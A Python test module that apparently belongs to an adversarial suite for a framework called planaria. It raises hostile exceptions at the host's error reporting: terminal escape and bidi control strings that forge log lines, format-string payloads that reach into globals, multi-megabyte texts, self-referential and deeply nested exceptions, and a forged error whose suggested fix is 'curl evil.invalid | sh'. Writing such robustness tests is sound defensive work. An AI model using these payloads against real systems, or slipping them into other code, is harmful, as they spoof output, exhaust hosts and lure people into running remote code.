"""Attacks by what is raised: the caller must get a refusal, a failure or an unknown outcome, in words that harm nobody.

Allows: an error is shown to people and decides what is tried again; whoever writes it steers both.
"""

from typing import Any

from planaria.attack.target.contract import Declared
from planaria.kernel.error import PlanariaError, Refused, Unknown

from .means import Facts, attack, facility

HOSTILE = "\x1b[2J\x1b]0;planted\x07\r\nPLN-C000: all is well\u202e\x00\x9b31m"


@attack(way="give")
def raises_with_controls_of_a_terminal(_: Facts) -> Any:
    """Raise an error whose text moves the cursor, names the window, and forges a line.

    Allows: showing people what was never there.
    """
    raise ValueError(HOSTILE)


@attack(way="give")
def raises_with_a_name_of_its_own(_: Facts) -> Any:
    """Raise an error whose class is named by controls of a terminal, and by a megabyte.

    Allows: showing people what was never there.
    """
    raise type(HOSTILE.replace("\x00", "") + "x" * (1 << 20), (Exception,), {})("named")


@attack(way="give", deadline_s=8)
def raises_with_a_very_long_text(_: Facts) -> Any:
    """Raise an error with a text of fifty megabytes.

    Allows: filling the log, and the memory of the host.
    """
    raise ValueError("x" * (50 << 20))


@attack(way="give")
def raises_a_text_that_is_a_template(_: Facts) -> Any:
    """Raise an error whose text climbs through objects, where somebody formats it.

    Allows: reading the host's objects by a text.
    """
    raise ValueError("{cell.__class__.__init__.__globals__} {0} %s %n {text!r:>1000000000}")


@attack(way="give")
def raises_what_cannot_be_told(_: Facts) -> Any:
    """Raise an error that fails when it is asked for its text.

    Allows: an error in whoever reports the error.
    """

    class Mute(Exception):
        def __str__(self) -> str:
            raise MemoryError

        __repr__ = __str__

    raise Mute


@attack(way="give", deadline_s=2)
def raises_what_takes_for_ever_to_tell(_: Facts) -> Any:
    """Raise an error that never ends to say its text.

    Allows: holding up whoever reports the error.
    """

    class Slow(Exception):
        def __str__(self) -> str:
            facility("time").sleep(600)
            return "late"

    raise Slow


@attack(way="give")
def raises_a_refusal(_: Facts) -> Any:
    """Raise the error that says that nothing was run.

    Allows: having a call tried again that has run, where the host believes it.
    """
    raise Refused(text=HOSTILE)


@attack(way="give")
def raises_the_error_of_unknown_outcomes(_: Facts) -> Any:
    """Raise the error that says that nobody knows.

    Allows: having people look for a fault where none is, where the host believes it.
    """
    raise Unknown(cell="neighbour", operation="answer", text=HOSTILE)


@attack(way="give")
def raises_an_error_of_planaria(_: Facts) -> Any:
    """Raise an error of the host's own family, with words of its own.

    Allows: speaking to people in the host's name.
    """
    raise type("Planted", (PlanariaError,), {"code": "PLN-C000", "what": HOSTILE, "why": HOSTILE, "fix": "curl evil.invalid | sh"})


@attack(way="give")
def raises_what_it_declares_with_hostile_facts(_: Facts) -> Any:
    """Raise the error that the contract declares, with facts that are large, deep, odd and full of controls.

    Allows: what was never checked, in an error that the caller trusts.
    """
    deep: Any = "end"
    for _round in range(2000):
        deep = [deep]
    facts: dict[str, Any] = {
        "text": HOSTILE,
        "deep": deep,
        "wide": list(range(100_000)),
        "long": "x" * (5 << 20),
        "odd": object(),
        HOSTILE: 1,
    }
    raise Declared(**facts)


@attack(way="give")
def raises_a_group_that_is_nested_deeply(_: Facts) -> Any:
    """Raise an error inside an error, ten thousand times.

    Allows: overflowing the stack of whoever reports it.
    """
    made: Exception = ValueError("end")
    for _round in range(10_000):
        made = ExceptionGroup(HOSTILE, [made])
    raise made


@attack(way="give")
def raises_in_a_circle(_: Facts) -> Any:
    """Raise an error that is the cause of its own cause.

    Allows: a walk without end in whoever reports it.
    """
    one, two = ValueError("one"), ValueError("two")
    one.__cause__, two.__cause__ = two, one
    raise one


@attack(way="give")
def raises_half_a_character(_: Facts) -> Any:
    """Raise an error whose text cannot be written down.

    Allows: an error in whoever reports the error.
    """
    raise ValueError("a\ud800b")


@attack(way="give")
def raises_an_object_that_changes_while_it_is_read(_: Facts) -> Any:
    """Raise an error whose facts are a mapping of its own class.

    Allows: running code in the host, where it reads the facts.
    """

    class Shifting(dict[str, Any]):
        def items(self) -> Any:
            raise MemoryError

        def get(self, *_: Any) -> Any:
            raise KeyboardInterrupt

    made = Declared(text="a")
    made.facts = Shifting(text="a")
    raise made
